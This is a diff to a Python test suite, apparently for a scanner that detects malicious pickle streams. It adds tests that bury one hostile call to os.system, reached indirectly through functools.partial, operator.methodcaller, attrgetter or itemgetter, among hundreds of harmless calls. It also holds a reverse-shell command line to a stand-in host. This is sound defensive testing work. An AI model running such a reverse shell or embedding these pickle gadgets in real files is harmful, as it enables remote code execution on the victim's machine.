@@ -2,6 +2,7 @@
 
 import pickle
 from collections import OrderedDict
+from collections.abc import Callable
 
 import pytest
 
@@ -9,7 +10,7 @@ from scanner.finding import Severity
 from tests.hostile.scanning import blocked_for, scan
 from tests.recipes.archives import PICKLE, png
 from tests.recipes.hiding import NOISE, PLACES, PROSE
-from tests.recipes.streams import Global, Instance, Object, call, stream
+from tests.recipes.streams import Call, Global, Instance, Object, call, stream
 
 SHELL = "bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'"
 STREAMS = {
@@ -78,3 +79,37 @@ def test_other_bytes_are_no_pickles(data: bytes) -> None:
 
 def test_what_a_loader_reads_as_text_stays_text() -> None:
     assert scan(PICKLE.replace(b"tR.", b"t."), "notes.txt").failure is None
+
+
+def computed(maker: str, *args: object) -> Callable[..., Call]:
+    """Calls of what such a call gives back."""
+    return lambda *given: Call(call(maker, *args), given)
+
+
+SYSTEM, LENGTH = Global("os", "system"), Global("builtins", "len")
+CROWDS: dict[str, tuple[Callable[[int], object], object]] = {
+    "partials": (
+        lambda n: computed("functools.partial", LENGTH)(f"x{n}"),
+        computed("functools.partial", SYSTEM)("id"),
+    ),
+    "methods": (
+        lambda n: computed("operator.methodcaller", "upper")(f"x{n}"),
+        computed("operator.methodcaller", "system", "id")(call("importlib.import_module", "os")),
+    ),
+    "attributes": (
+        computed("operator.attrgetter", "real"),
+        Call(computed("operator.attrgetter", "system")(call("importlib.import_module", "os")), ("id",)),
+    ),
+    "items": (
+        lambda n: computed("operator.itemgetter", 0)([n]),
+        Call(computed("operator.itemgetter", 0)([SYSTEM]), ("id",)),
+    ),
+}
+
+
+@pytest.mark.parametrize("name", CROWDS)
+def test_one_among_many_that_are_honest(name: str) -> None:
+    honest, hostile = CROWDS[name]
+    crowd = [honest(n) for n in range(400)]
+    for content in ([*crowd, hostile], [hostile, *crowd]):
+        assert blocked_for(scan(stream(content, 4))) >= {"code-execution"}
